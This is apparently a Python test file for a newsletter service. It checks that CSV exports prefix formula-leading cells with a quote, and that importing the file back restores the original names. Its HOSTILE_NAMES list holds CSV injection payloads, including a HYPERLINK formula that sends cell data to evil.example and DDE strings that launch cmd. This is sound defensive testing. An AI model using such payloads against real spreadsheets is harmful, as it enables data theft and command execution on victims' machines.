"""CSV formula injection: what strangers type into the public sign-up form reaches the
admin's spreadsheet through the export. Every exported cell that a spreadsheet would run
(= + - @ tab CR first) is prefixed with ', and the importer reads it back unchanged."""

from __future__ import annotations

import csv
import io

from bot.domain.spreadsheet import neutralise, restore
from sqlalchemy import select

from bot.services import subscriber_data, subscribers
from bot.store.db import session_scope
from bot.store.mailing import MailingList, Subscriber
from bot.web.app import create_app
from fastapi.testclient import TestClient
from tests.support.web import client_for, csrf_from

HOSTILE_NAMES = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def sign_up_through_the_public_form(settings, email: str, name: str) -> None:
    client = TestClient(create_app(settings))
    token = csrf_from(client.get("/subscribe").text)
    response = client.post("/subscribe", data={"email": email, "name": name, "lists": ["morning"],
                                               "csrf_token": token}, follow_redirects=False)
    assert response.status_code == 303, response.text


def list_id(settings, name: str) -> int:
    with session_scope(settings.effective_database_url) as s:
        return s.scalar(select(MailingList.id).where(MailingList.name == name))


def test_export_neutralises_formulas_from_public_sign_ups(settings):
    subscribers.add_list(settings, "morning", title="Morning", from_email="news@news.example.org",
                         from_name="Gazette")
    subscribers.add_list(settings, "copy", title="Copy", from_email="news@news.example.org",
                         from_name="Gazette")
    # The public form takes five sign-ups per client in ten minutes: the rest go through
    # the same service call the form makes.
    for n, name in enumerate(HOSTILE_NAMES):
        if n < 3:
            sign_up_through_the_public_form(settings, f"reader{n}@example.org", name)
        else:
            subscribers.subscribe(settings, f"reader{n}@example.org", "morning", name=name)
    # The readers confirm (their own click), so they are in the export.
    with session_scope(settings.effective_database_url) as s:
        pending = [(sub.id, sub.name) for sub in s.scalars(select(Subscriber))]
    assert sorted(name for _id, name in pending) == sorted(HOSTILE_NAMES)
    for sid, _name in pending:
        link = subscribers.confirmation_request(settings, sid, list_id(settings, "morning")).confirm_url
        subscribers.confirm(settings, link.rsplit("/confirm/", 1)[1].split("?")[0])
    subscribers.add_confirmed(settings, "-dash@example.org", "morning", name="@admin")

    editor = client_for(settings, login_as="ed@example.com")
    exported = editor.get("/admin/subscribers/export", params={"list": "morning"}).text
    assert exported == subscriber_data.export_csv(settings, "morning")   # the CLI's export too
    rows = list(csv.reader(io.StringIO(exported, newline="")))
    assert len(rows) == 1 + len(HOSTILE_NAMES) + 1 and all(len(row) == 4 for row in rows)
    cells = [cell for row in rows for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], dangerous
    assert "'" + HOSTILE_NAMES[0] in cells and "'-dash@example.org" in cells and "'@admin" in cells

    # Re-importing the export gives back the names as typed, not with the quote.
    report = subscriber_data.import_csv(settings, exported, "copy", origin="round trip")
    assert report.imported == len(HOSTILE_NAMES) + 1, report
    again = [c for row in csv.reader(io.StringIO(subscriber_data.export_csv(settings, "copy"), newline=""))
             for c in row]
    assert sorted(again) == sorted(cells)


def test_neutralise_and_restore():
    for value in ["=1+1", "+x", "-x", "@x", "\tx", "\rx"]:
        assert neutralise(value) == "'" + value and restore(neutralise(value)) == value
    for value in ["Ada", "", "'quoted", "a=b", "1-2"]:
        assert neutralise(value) == value and restore(value) == value
